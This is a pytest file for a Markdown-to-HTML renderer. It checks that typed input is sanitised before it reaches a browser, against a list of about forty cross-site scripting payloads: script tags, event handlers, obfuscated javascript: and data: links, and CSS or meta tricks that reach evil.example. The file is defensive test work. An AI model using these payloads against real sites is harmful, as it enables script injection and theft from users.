"""Whatever is typed, a browser is given only what is known to be safe."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import nh3
import pytest

from beside.learning import rendering
from beside.learning.rendering import ATTRIBUTES, SCHEMES, TAGS, draft, draft_sources

NONE: frozenset[str] = frozenset()

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "![pixel](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=code><button>Send</button></form>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example)">words</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[click](https://example.org "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '<a href="https://example.org" onclick="alert(1)" target="_blank">x</a>',
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
]


class Found(HTMLParser):
    """Every tag with its attributes, as a browser's reader would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def unsafe(html: str) -> list[str]:
    """What is there that may not be: a tag, an attribute, a way to somewhere else."""
    wrong = []
    for tag, attributes in Found(html).tags:
        if tag not in TAGS:
            wrong.append(f"<{tag}>")
        for name, value in attributes.items():
            if name not in {*ATTRIBUTES.get(tag, ()), "rel"}:
                wrong.append(f"{tag} {name}")
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
            if name == "href" and scheme and scheme[1].lower() not in SCHEMES:
                wrong.append(value)
    return wrong


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_typed_runs_loads_or_leads_elsewhere_by_itself(attack: str) -> None:
    assert unsafe(draft(attack, "en", NONE)) == []
    assert [one for line in draft_sources(attack, "en", NONE) for one in unsafe(line)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_hold(attack: str) -> None:
    assert unsafe(rendering._clean(attack)) == []


def test_the_reader_of_markdown_alone_would_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rendering, "_clean", lambda html: html)
    for attack in ATTACKS:
        # What Markdown itself may say: a link's title, and how a column of a table stands.
        own = {"a title", "th style", "td style"}
        assert set(unsafe(draft(attack, "en", NONE))) <= own, attack


def test_the_control_with_both_locks_open_the_attacks_are_found() -> None:
    found = [attack for attack in ATTACKS if unsafe(attack) or unsafe(nh3.clean(attack))]
    assert len(found) > 15


def test_a_link_says_nobody_where_it_came_from() -> None:
    [(tag, attributes)] = Found(draft("[x](https://example.org/a)", "en", NONE)).tags[1:]
    assert tag == "a"
    assert attributes == {"href": "https://example.org/a", "rel": "noopener noreferrer"}


def test_what_is_meant_to_be_marked_is_marked() -> None:
    html = draft(
        "# One\n\n## Two\n\n### Three\n\n**strong** *soft* [us](/promise/)\n\n"
        "- a\n- b\n\n> said\n\n3. c\n\n|a|b|\n|-|-|\n|1|2|\n",
        "en",
        NONE,
    )
    assert "<h2>One</h2>" in html
    assert "<h2>Two</h2>" in html
    assert "<h3>Three</h3>" in html
    assert "<strong>strong</strong> <em>soft</em>" in html
    assert 'href="/promise/"' in html
    assert '<ol start="3">' in html
    assert "<th>a</th>" in html
    assert "<h1" not in html


def test_typed_html_is_shown_as_it_was_typed() -> None:
    assert "&lt;b&gt;not bold&lt;/b&gt;" in draft("<b>not bold</b>", "en", NONE)


def test_identifiers_become_links_and_brackets_in_them_stay() -> None:
    [line] = draft_sources("A. 2007. doi:10.1016/S1553-7250(07)33050-X. PMID 17724943.", "en", NONE)
    assert 'href="https://doi.org/10.1016/S1553-7250(07)33050-X"' in line
    assert ">doi:10.1016/S1553-7250(07)33050-X</a>." in line
    assert 'href="https://pubmed.ncbi.nlm.nih.gov/17724943/"' in line


def test_a_page_is_made_once_for_its_words() -> None:
    body = "Words that no other test has, number 4711."
    rendering.page.cache_clear()
    assert rendering.page(body, "en", NONE) is rendering.page(body, "en", NONE)
    assert rendering.page(body + " More.", "en", NONE) != rendering.page(body, "en", NONE)
    assert rendering.page.cache_info().hits == 2
    assert rendering.page.cache_info().maxsize
